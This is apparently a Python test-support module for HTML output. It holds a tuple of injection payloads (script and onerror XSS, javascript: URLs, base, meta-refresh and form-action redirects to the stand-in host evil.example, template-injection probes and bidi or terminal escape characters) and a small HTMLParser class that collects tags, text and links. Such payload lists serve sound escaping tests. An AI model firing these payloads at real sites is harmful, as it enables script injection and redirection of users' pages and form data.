"""Pages as a test reads them, and texts that try to be more than text."""

from html.parser import HTMLParser

#: One payload per way out of text: element, attribute, style, script, URL, template, entity, comment, bidi, terminal.
PAYLOADS = (
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg/onload=alert(1)>",
    "</title></style></textarea></pre></template><iframe src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "{{7*7}}{% raw %}${7*7}#{7*7}",
    "&lt;script&gt;&#60;script&#62;&quot; onmouseover=alert(1) x=",
    "<!--<script>--><![CDATA[<script>alert(1)</script>]]>",
    "<math><mtext></mtext><style><img src=x onerror=alert(1)></style></math>",
    "\u202eevil\u2066\u200b\x1b[31m\x07",
    "<form action=//evil.example/><input formaction=//evil.example/ autofocus onfocus=alert(1)>",
)  # fmt: skip


class Page(HTMLParser):
    """Elements, attributes and text of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    @property
    def links(self) -> list[str]:
        return [attributes["href"] for tag, attributes in self.tags if tag == "a" and attributes.get("href")]
